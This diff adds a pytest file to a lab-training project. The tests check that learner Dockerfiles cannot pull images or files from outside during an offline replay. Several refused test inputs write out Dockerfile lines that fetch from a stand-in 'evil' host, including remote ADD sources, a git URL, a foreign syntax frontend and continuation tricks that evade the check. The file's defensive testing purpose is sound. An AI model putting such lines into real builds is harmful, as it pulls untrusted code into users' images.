@@ -1,0 +1,106 @@
+"""A Dockerfile for which the engine would ask somebody else is refused in a replay, and no right one is."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from kikori import paths
+from kikori.catalog import Catalog
+from kikori.errors import KikoriError, WorkspaceProblem
+from kikori.runtime.blueprint import Blueprint
+from kikori.runtime.learner_build import LARGEST, check_learner_build
+
+OURS = sorted([
+    *paths.ROOT.glob("labs/*/workspace/**/Dockerfile"),
+    *paths.ROOT.glob("labs/*/fixes/**/Dockerfile"),
+    *paths.ROOT.glob("labs/*/faults/*/fixes/**/Dockerfile"),
+])  # fmt: skip
+
+
+def is_here(image: str) -> bool:
+    """An engine with our images, and one that an instructor has pulled."""
+    return image.startswith("kikori/") or image == "debian:trixie-slim"
+
+
+def judged(folder: Path, text: str) -> str:
+    """What is refused; nothing where nothing is."""
+    (folder / "Dockerfile").write_text(text, encoding="utf-8")
+    try:
+        check_learner_build(folder, is_here)
+    except WorkspaceProblem:
+        raise  # which would be a word about the learner's work
+    except KikoriError as problem:
+        return problem.message
+    return ""
+
+
+@pytest.mark.parametrize("file", OURS, ids=lambda path: str(path.relative_to(paths.ROOT / "labs").parent))
+def test_dockerfile_of_a_lab_or_a_right_fix_is_built(file: Path, tmp_path: Path) -> None:
+    assert not judged(tmp_path, file.read_text(encoding="utf-8"))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "FROM debian:trixie-slim",
+        "from kikori/python as runs\nFROM runs\nCOPY --from=runs /a /b\nCOPY --from=0 /a /b\n",
+        "FROM scratch\nADD files.tar /x\nADD a b /x/\n",
+        "ARG BASE=kikori/python\nFROM ${BASE}\nFROM $BASE AS two\n",
+        "FROM --platform=$BUILDPLATFORM kikori/python\n",
+        "FROM kikori/python\nRUN --mount=type=cache,target=/var/cache/apt apt-get update\n",
+        "FROM kikori/python\nRUN python3 <<END\nfrom http.server import HTTPServer\nEND\n",
+        "FROM kikori/python\nRUN mariadb -e 'ALTER TABLE a \\\n ADD COLUMN b INT'\n",
+        "FROM kikori/python\nRUN curl -s http://127.0.0.1/ || true\nENV AT=http://shop/\n",
+        "\ufeff# escape=`\nFROM kikori/python\nRUN a `\n b\n",
+    ],
+)
+def test_right_dockerfile_is_built(tmp_path: Path, text: str) -> None:
+    assert not judged(tmp_path, text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "FROM nobody/has-it",
+        "FROM kikori/python\nFROM $X\n",
+        "ARG X=kikori/python\nARG X=evil/x\nFROM $X\n",
+        "FROM --platform=linux/arm64 kikori/python\nCOPY --from=evil/x /a /b\n",
+        "FR\\\nOM evil/x\n",
+        "# escape=`\nFR`\nOM evil/x\n",
+        "FROM kikori/python\nONBUILD ADD https://evil/x /x\n",
+        'FROM kikori/python\nADD ["https://evil/x", "/x"]\n',
+        "FROM kikori/python\nARG AT=https://evil/x\nADD $AT /x\n",
+        "FROM kikori/python\nADD git@evil:x/y /x\n",
+        "FROM kikori/python\nADD --keep-git-dir=true github.com/evil/x /x\n",
+        "FROM kikori/python\nADD evil/x.git#main /x\n",
+        'FROM kikori/python\nRUN --mount=type=bind,"from=evil/x",target=/x true\n',
+        "FROM kikori/python\nRUN --mount=target=/x,from=evil/x,type=bind true\n",
+        "// syntax=evil/x\nFROM kikori/python\n",
+        "#syntax = evil/x\nFROM kikori/python\n",
+        "#!/bin/x\n# syntax=evil/x\nFROM kikori/python\n",
+        "FROM kikori/python\n" + "#" * LARGEST,
+    ],
+)
+def test_dockerfile_that_would_fetch_is_refused(tmp_path: Path, text: str) -> None:
+    assert judged(tmp_path, text).startswith("its Dockerfile can't be built in a replay, which has no way out: ")
+
+
+def test_syntax_that_every_engine_has_is_taken_out(tmp_path: Path) -> None:
+    assert not judged(tmp_path, "# syntax=docker/dockerfile:1.7\nFROM kikori/python\n")
+    assert (tmp_path / "Dockerfile").read_text(encoding="utf-8") == "#\nFROM kikori/python\n"
+
+
+def test_missing_dockerfile_is_left_to_the_build(tmp_path: Path) -> None:
+    check_learner_build(tmp_path, is_here)
+
+
+def test_every_build_of_a_workspace_is_looked_at(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("kikori.runtime.blueprint.is_here", lambda image: False)
+    lab = Catalog().lab("bad-deploy")
+    for folder, text in {"forge": "FROM kikori/delivery\n", "shop": "FROM evil/x\n"}.items():
+        (tmp_path / folder).mkdir()
+        (tmp_path / folder / "Dockerfile").write_text(text, encoding="utf-8")
+    with pytest.raises(KikoriError, match="it builds on evil/x"):
+        Blueprint(lab, str(tmp_path)).check_learner_builds()
